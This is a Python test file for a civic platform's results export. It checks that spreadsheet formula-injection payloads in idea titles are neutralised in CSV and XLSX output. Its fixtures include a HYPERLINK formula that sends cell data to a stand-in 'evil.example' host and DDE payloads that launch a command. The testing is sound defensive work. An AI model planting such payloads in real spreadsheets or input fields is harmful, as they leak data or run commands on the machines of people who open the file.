"""Issue 15: an idea titled ``=HYPERLINK(…)`` or ``=cmd|…`` must not become a live formula in
the results CSV or XLSX, for a city and for the cohort (pure: the export functions)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from test_events_results_unit import Script

from gateway.results_export import spreadsheet_text, to_csv, to_xlsx
from services.events.results import Titles, city_results, cohort_results

HOSTILE = {
    "i1": '=HYPERLINK("https://evil.example/?"&A1,"Klick")',
    "i2": "=cmd|' /C calc'!A0",
    "i3": "+1+cmd|' /C calc'!A0",
    "i4": "-2+3",
    "i5": "@SUM(1+1)*cmd|' /C calc'!A0",
    "i6": "\t=1+1",
}
DISTRICT = "=1+2"


def _facts() -> list:
    say = Script()
    say("scenarios", "topic", "published", topic_id="t1", title='=HYPERLINK("x")')
    say("dialogue", "talk", "created", talk_id="k1", topic_id="t1", kind="table_talk")
    say("dialogue", "talk", "documented", talk_id="k1", topic_id="t1", participants=5)
    for idea in HOSTILE:
        say("dialogue", "idea", "proposed", idea_id=idea, category="other", district=DISTRICT)
        say("dialogue", "idea", "supported", idea_id=idea)
    return say.facts


def _city() -> dict:
    titles = Titles(topics={"t1": '=HYPERLINK("x")'}, ideas=dict(HOSTILE))
    return {"city": "musterstadt", "name": "Musterstadt", **city_results(_facts(), titles)}


def _cohort() -> dict:
    return {"year": 2027, **cohort_results({"aachen": _city(), "bonn": _city()})}


@pytest.mark.parametrize("results", [_city, _cohort], ids=["city", "cohort"])
def test_formulas_in_results_csv_and_xlsx_are_neutralised(results) -> None:  # noqa: ANN001
    document = results()
    text = to_csv(document).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()]
    assert f"'{DISTRICT}" in cells
    if "year" not in document:  # a cohort lists no topics
        assert '\'=HYPERLINK("x")' in cells

    workbook = load_workbook(io.BytesIO(to_xlsx(document)))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    idea_titles = {row[0] for row in workbook["Ideen"].iter_rows(min_row=2, values_only=True)}
    assert idea_titles and idea_titles <= {"'" + title for title in HOSTILE.values()}
    assert f"'{DISTRICT}" in texts
    # Numbers stay numbers: counts are not turned into text.
    supports = [row[4] for row in workbook["Ideen"].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(n, int) for n in supports)


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-42", "-42"),  # a plain negative number runs nothing
        ("-3,5", "-3,5"),
        ("Radweg = Zukunft", "Radweg = Zukunft"),
        ("", ""),
    ],
)
def test_spreadsheet_text_prefixes_formula_starts_only(typed: str, written: str) -> None:
    assert spreadsheet_text(typed) == written
